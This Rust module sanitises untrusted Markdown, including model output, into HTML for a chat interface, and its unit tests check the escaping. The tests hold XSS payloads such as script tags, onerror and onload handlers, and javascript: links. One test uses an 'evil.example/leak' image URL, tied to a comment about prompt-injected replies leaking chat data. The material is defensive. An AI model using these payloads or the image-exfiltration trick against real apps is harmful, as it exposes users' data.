//! The one path from untrusted Markdown (model output, tool results, documents) to HTML.
//!
//! Its output is the only HTML the app may assign with `inner_html`. Safety is decided
//! at the event level, before any HTML exists:
//! - raw HTML in the source (`<script>`, `<img onerror>`, comments) becomes escaped text;
//! - links keep only `http`, `https`, `mailto` and relative targets
//!   ([`crate::safe_url::is_safe_link_href`]); others become plain text; links open in a
//!   new tab without opener or referrer;
//! - images load only from inline raster `data:` URLs. A remote image becomes a link:
//!   loading it by itself would let a prompt-injected reply leak data through the URL;
//! - math becomes MathML (pulldown-latex) with its `style` attributes removed, because
//!   the CSP forbids inline styles;
//! - every text run and attribute is escaped by pulldown-cmark's writer or ours.
//!
//! [`StableSplitter`] finds where the finished blocks of a streaming reply end, so they
//! render once and only the open tail re-renders; an unclosed code fence is part of the
//! open tail and renders as an open code block.
//!
//! Code blocks are highlighted by their fence label ([`highlight`]); the highlighter
//! escapes every character it writes, like the rest of this module.

pub mod highlight;
mod mathml;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use pulldown_cmark_escape::{escape_href, escape_html};

use crate::safe_url::{is_safe_image_src, is_safe_link_href};

/// The most source bytes rendered at once; longer input is cut (with a marker) rather
/// than freezing the page.
pub const MAX_SOURCE_BYTES: usize = 4 * 1024 * 1024;

/// Text the renderer writes itself, already translated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Labels {
    /// The accessible name of a code block's copy button.
    pub copy_code: String,
    /// The label of a code block without a language.
    pub plain_text: String,
}

impl Default for Labels {
    fn default() -> Self {
        Self {
            copy_code: "Copy code".into(),
            plain_text: "text".into(),
        }
    }
}

fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM
}

fn escaped(text: &str) -> String {
    let mut out = String::new();
    let _ = escape_html(&mut out, text);
    out
}

fn link_open(href: &str) -> String {
    let mut out = String::from("<a href=\"");
    let _ = escape_href(&mut out, href);
    out.push_str("\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">");
    out
}

/// A code language label reduced to safe characters (`c++`, `objective-c`, `rust`).
fn language(info: &str) -> String {
    info.split([' ', ',', '{'])
        .next()
        .unwrap_or_default()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '+' | '#' | '.' | '_'))
        .take(32)
        .collect()
}

/// Renders `latex` to MathML without inline styles.
fn math(latex: &str, display: bool) -> String {
    let storage = pulldown_latex::Storage::new();
    let parser = pulldown_latex::Parser::new(latex, &storage);
    let config = pulldown_latex::RenderConfig {
        display_mode: if display {
            pulldown_latex::config::DisplayMode::Block
        } else {
            pulldown_latex::config::DisplayMode::Inline
        },
        ..Default::default()
    };
    let mut mathml = String::new();
    if pulldown_latex::push_mathml(&mut mathml, parser, config).is_err() {
        return format!("<code class=\"math-error\">{}</code>", escaped(latex));
    }
    mathml::sanitize(&mathml).replace("<merror", "<merror class=\"math-error\"")
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Open {
    /// A link or image-as-link that was emitted: close with `</a>`.
    Anchor,
    /// A link or image dropped as unsafe: its text stays, no tag.
    Dropped,
    /// An inline image whose alt text is being collected.
    Image,
}

/// Renders Markdown to sanitised HTML.
pub fn render(source: &str, labels: &Labels) -> String {
    let (source, cut) = if source.len() > MAX_SOURCE_BYTES {
        let mut end = MAX_SOURCE_BYTES;
        while !source.is_char_boundary(end) {
            end -= 1;
        }
        (&source[..end], true)
    } else {
        (source, false)
    };
    let mut events: Vec<Event> = Vec::new();
    let mut open: Vec<Open> = Vec::new();
    let mut image: Option<(String, String)> = None;
    // The language and text of the open code block: its text may arrive in several
    // events, and a string or comment may span them, so it is highlighted at its end.
    let mut code: Option<(String, String)> = None;
    for event in Parser::new_ext(source, options()) {
        if let (Some((_, buffer)), Event::Text(text)) = (code.as_mut(), &event) {
            buffer.push_str(text);
            continue;
        }
        if let Some((_, alt)) = image.as_mut() {
            match event {
                Event::End(TagEnd::Image) => {
                    open.pop();
                    let (src, alt) = image.take().unwrap_or_default();
                    events.push(Event::Html(
                        format!(
                            "<img src=\"{}\" alt=\"{}\" loading=\"lazy\" decoding=\"async\" referrerpolicy=\"no-referrer\">",
                            {
                                let mut href = String::new();
                                let _ = escape_href(&mut href, &src);
                                href
                            },
                            escaped(&alt)
                        )
                        .into(),
                    ));
                }
                Event::Text(text)
                | Event::Code(text)
                | Event::InlineHtml(text)
                | Event::Html(text) => alt.push_str(&text),
                _ => {}
            }
            continue;
        }
        match event {
            Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
            Event::Start(Tag::Link { dest_url, .. }) => {
                if is_safe_link_href(&dest_url) {
                    open.push(Open::Anchor);
                    events.push(Event::Html(link_open(&dest_url).into()));
                } else {
                    open.push(Open::Dropped);
                }
            }
            Event::End(TagEnd::Link) => {
                if open.pop() == Some(Open::Anchor) {
                    events.push(Event::Html("</a>".into()));
                }
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                let lower = dest_url.trim().to_ascii_lowercase();
                if lower.starts_with("data:") && is_safe_image_src(&dest_url) {
                    open.push(Open::Image);
                    image = Some((dest_url.to_string(), String::new()));
                } else if is_safe_link_href(&dest_url) && !lower.starts_with("data:") {
                    open.push(Open::Anchor);
                    events.push(Event::Html(
                        format!("{}<span class=\"md-image-link\">", link_open(&dest_url)).into(),
                    ));
                } else {
                    open.push(Open::Dropped);
                }
            }
            Event::End(TagEnd::Image) => {
                if open.pop() == Some(Open::Anchor) {
                    events.push(Event::Html("</span></a>".into()));
                }
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match &kind {
                    CodeBlockKind::Fenced(info) => language(info),
                    CodeBlockKind::Indented => String::new(),
                };
                let label = if lang.is_empty() {
                    labels.plain_text.clone()
                } else {
                    lang.clone()
                };
                let class = if lang.is_empty() {
                    String::new()
                } else {
                    format!(" class=\"language-{}\"", escaped(&lang))
                };
                events.push(Event::Html(
                    format!(
                        "<div class=\"code-block\"><div class=\"code-block__bar\">\
                         <span class=\"code-block__lang\">{}</span>\
                         <button type=\"button\" class=\"code-block__copy\" data-action=\"copy-code\" aria-label=\"{}\" title=\"{}\"></button>\
                         </div><pre><code{class}>",
                        escaped(&label),
                        escaped(&labels.copy_code),
                        escaped(&labels.copy_code)
                    )
                    .into(),
                ));
                code = Some((lang, String::new()));
            }
            Event::End(TagEnd::CodeBlock) => {
                let (lang, text) = code.take().unwrap_or_default();
                let mut html = highlight::highlight(&lang, &text);
                html.push_str("</code></pre></div>");
                events.push(Event::Html(html.into()));
            }
            Event::InlineMath(latex) => events.push(Event::Html(math(&latex, false).into())),
            Event::DisplayMath(latex) => events.push(Event::Html(math(&latex, true).into())),
            Event::Start(Tag::Heading { level, .. }) => {
                // Drop ids and classes a source could set.
                events.push(Event::Start(Tag::Heading {
                    level,
                    id: None,
                    classes: Vec::new(),
                    attrs: Vec::new(),
                }));
            }
            other => events.push(other),
        }
    }
    // An unclosed code fence at the end of a streaming reply is closed by the parser.
    let mut html = String::with_capacity(source.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    if cut {
        html.push_str("<p class=\"md-truncated\">…</p>");
    }
    html
}

/// Finds where the finished blocks of a growing Markdown text end.
///
/// Feed it the whole text each time it grows (it scans only the new complete lines);
/// [`StableSplitter::stable_len`] is a byte offset such that `text[..offset]` will never
/// render differently however the text continues. It advances only at a blank line
/// outside a code fence that is followed by a line that cannot continue the previous
/// block (not indented, not a list item, quote or table row).
#[derive(Debug, Default, Clone)]
pub struct StableSplitter {
    scanned: usize,
    stable: usize,
    fence: Option<(char, usize)>,
    blank_at: Option<usize>,
}

impl StableSplitter {
    /// A splitter at the start of a reply.
    pub fn new() -> Self {
        Self::default()
    }

    /// The offset up to which the text is stable.
    pub fn stable_len(&self) -> usize {
        self.stable
    }

    /// Scans the new complete lines of `text` and returns the stable offset.
    pub fn advance(&mut self, text: &str) -> usize {
        while let Some(newline) = text.get(self.scanned..).and_then(|rest| rest.find('\n')) {
            let start = self.scanned;
            let line = &text[start..start + newline];
            self.scanned = start + newline + 1;
            self.line(line, start);
        }
        self.stable
    }

    fn line(&mut self, line: &str, start: usize) {
        let trimmed = line.trim_start_matches(' ');
        let indent = line.len() - trimmed.len();
        if let Some((marker, length)) = self.fence {
            let run = trimmed.chars().take_while(|c| *c == marker).count();
            if indent < 4 && run >= length && trimmed[run * marker.len_utf8()..].trim().is_empty() {
                self.fence = None;
            }
            return;
        }
        if line.trim().is_empty() {
            self.blank_at.get_or_insert(start);
            return;
        }
        let continues_block = indent > 0
            || trimmed.starts_with(['>', '|', '-', '*', '+'])
            || trimmed.split_once(['.', ')']).is_some_and(|(number, _)| {
                !number.is_empty()
                    && number.len() <= 9
                    && number.chars().all(|c| c.is_ascii_digit())
            })
            || trimmed.starts_with("[^");
        if let Some(blank) = self.blank_at.take()
            && !continues_block
        {
            self.stable = blank;
        }
        for marker in ['`', '~'] {
            let run = trimmed.chars().take_while(|c| *c == marker).count();
            if indent < 4 && run >= 3 && !(marker == '`' && trimmed[run..].contains('`')) {
                self.fence = Some((marker, run));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(source: &str) -> String {
        render(source, &Labels::default())
    }

    #[test]
    fn gfm_features_render() {
        let out = html(
            "# Title\n\n**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\nNote[^1].\n\n[^1]: The note.\n",
        );
        assert!(out.contains("<h1>Title</h1>"), "{out}");
        assert!(out.contains("<del>gone</del>"), "{out}");
        assert!(out.contains("<table>"), "{out}");
        assert!(out.contains("type=\"checkbox\""), "{out}");
        assert!(out.contains("footnote"), "{out}");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        for payload in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "hello <iframe src=\"javascript:alert(1)\"></iframe>",
            "<!-- comment --><svg onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
        ] {
            let out = html(payload);
            assert!(!out.contains("<script"), "{payload} → {out}");
            assert!(!out.contains("<img"), "{payload} → {out}");
            assert!(!out.contains("<iframe"), "{payload} → {out}");
            assert!(!out.contains("<svg"), "{payload} → {out}");
            assert!(!out.contains("<a "), "{payload} → {out}");
            assert!(out.contains("&lt;"), "{payload} → {out}");
        }
    }

    #[test]
    fn unsafe_links_become_text_and_safe_ones_open_safely() {
        let out =
            html("[click](javascript:alert(1)) [x](  JaVaScRiPt:alert(1)) [d](data:text/html,x)");
        assert!(!out.contains("<a"), "{out}");
        assert!(
            !out.to_ascii_lowercase().contains("href=\"javascript"),
            "{out}"
        );
        assert!(out.contains("click"));
        let out = html("[docs](https://example.com/a?b=\"c\") <https://example.org>");
        assert!(
            out.contains("href=\"https://example.com/a?b=%22c%22\""),
            "{out}"
        );
        assert!(
            out.contains("rel=\"noopener noreferrer nofollow\""),
            "{out}"
        );
        assert!(out.contains("target=\"_blank\""), "{out}");
        assert_eq!(out.matches("<a ").count(), 2, "{out}");
        assert_eq!(out.matches("</a>").count(), 2, "{out}");
    }

    #[test]
    fn remote_images_are_links_and_inline_raster_images_load() {
        let out = html("![secret](https://evil.example/leak?d=chat)");
        assert!(
            !out.contains("<img"),
            "remote images never load by themselves: {out}"
        );
        assert!(
            out.contains("href=\"https://evil.example/leak?d=chat\""),
            "{out}"
        );
        assert!(out.contains("secret"));
        let out = html("![dot](data:image/png;base64,iVBORw0KGgo=)");
        assert!(
            out.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\""),
            "{out}"
        );
        assert!(out.contains("referrerpolicy=\"no-referrer\""));
        let out = html("![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](javascript:alert(1))");
        assert!(!out.contains("<img"), "{out}");
        assert!(!out.contains("<a"), "{out}");
        let out = html("![a \"quoted\" <alt>](data:image/gif;base64,R0lG)");
        assert!(
            out.contains("alt=\"a &quot;quoted&quot; &lt;alt&gt;\""),
            "{out}"
        );
    }

    #[test]
    fn code_blocks_have_a_label_a_copy_button_and_escaped_content() {
        let out = html("```rust\nfn main() { println!(\"<b>\"); }\n```\n");
        assert!(
            out.contains("<span class=\"code-block__lang\">rust</span>"),
            "{out}"
        );
        assert!(out.contains("data-action=\"copy-code\""), "{out}");
        assert!(out.contains("class=\"language-rust\""), "{out}");
        assert!(out.contains("&lt;b&gt;"), "{out}");
        let out = html("```\"><script>alert(1)</script>\nx\n```");
        assert!(!out.contains("<script"), "{out}");
    }

    #[test]
    fn code_blocks_are_highlighted_as_a_whole() {
        // In a quote (or a list, or with CRLF line ends) a block's lines arrive as separate
        // text events; a comment spanning them is still one token.
        let out = html("> ```C\n> /* one\n> two */ int x = 1;\n> ```\n");
        assert!(
            out.contains("<span class=\"tok-com\">/* one\ntwo */</span>"),
            "{out}"
        );
        assert!(out.contains("<span class=\"tok-ty\">int</span>"), "{out}");
        let out = html("```\nfn <b>\n```\n\n    indented fn\n");
        assert!(!out.contains("tok-"), "no language, no highlighting: {out}");
        assert!(out.contains("fn &lt;b&gt;"), "{out}");
    }

    #[test]
    fn an_unclosed_fence_renders_as_an_open_code_block() {
        let out = html("Intro\n\n```python\nprint('hi')\nfor x in");
        assert!(out.contains("<p>Intro</p>"), "{out}");
        assert!(
            out.contains(
                "<span class=\"tok-fn\">print</span>(<span class=\"tok-str\">&#39;hi&#39;</span>)"
            ),
            "{out}"
        );
        assert!(out.trim_end().ends_with("</code></pre></div>"), "{out}");
    }

    #[test]
    fn math_becomes_mathml_without_inline_styles() {
        let out = html(
            "Euler: $e^{i\\pi} + 1 = 0$\n\n$$\\color{red}{x}^2 \\hspace{1em} \\frac{a}{b}$$\n\n$\\badcommand{$",
        );
        assert!(out.contains("<math"), "{out}");
        assert!(out.contains("display=\"block\""), "{out}");
        assert!(
            !out.contains("style="),
            "inline styles violate the CSP: {out}"
        );
    }

    #[test]
    fn math_that_fails_to_parse_cannot_smuggle_markup() {
        // pulldown-latex quotes the source around a parse error inside <merror><mtext>,
        // where a browser parses HTML tags (found by the Markdown fuzz target).
        for source in [
            "$\\frac{&<img src=x onerror=alert(1)>$",
            "$$a & <script>alert(1)</script>$$",
            "$x < y > z$",
        ] {
            let out = html(source);
            assert!(!out.contains("<img") && !out.contains("<script"), "{out}");
            assert!(!out.contains("<mo><</mo>"), "{out}");
        }
    }

    #[test]
    fn headings_cannot_set_ids_or_classes() {
        let out = html("# Title {#evil .class}\n");
        assert!(!out.contains("id="), "{out}");
        assert!(!out.contains("class="), "{out}");
    }

    #[test]
    fn oversize_input_is_cut_with_a_marker() {
        let big = "a".repeat(MAX_SOURCE_BYTES + 10);
        let out = html(&big);
        assert!(out.ends_with("<p class=\"md-truncated\">…</p>"));
    }

    fn stable_after_each_line(text: &str) -> usize {
        let mut splitter = StableSplitter::new();
        let mut last = 0;
        for end in (0..=text.len()).filter(|i| text.is_char_boundary(*i)) {
            let offset = splitter.advance(&text[..end]);
            assert!(offset >= last, "the stable offset never moves back");
            last = offset;
        }
        last
    }

    #[test]
    fn stable_prefix_ends_at_finished_blocks() {
        let text = "First paragraph.\n\nSecond paragraph\ncontinues.\n\n# Heading\n";
        let stable = stable_after_each_line(text);
        assert_eq!(
            &text[..stable],
            "First paragraph.\n\nSecond paragraph\ncontinues.\n"
        );
        assert_eq!(html(&text[..stable]) + &html(&text[stable..]), html(text));
    }

    #[test]
    fn blank_lines_inside_a_fence_or_a_list_do_not_split() {
        let text = "```\ncode\n\nmore code\n```\n\n- one\n\n- two\n\n  indented\n\nDone.\n";
        let mut splitter = StableSplitter::new();
        let stable = splitter.advance(text);
        assert_eq!(
            &text[..stable],
            "```\ncode\n\nmore code\n```\n\n- one\n\n- two\n\n  indented\n"
        );
        assert_eq!(html(&text[..stable]) + &html(&text[stable..]), html(text));

        let open_fence = "Intro\n\n```\nstill\n\ncode\n";
        assert_eq!(StableSplitter::new().advance(open_fence), "Intro\n".len());
    }
}
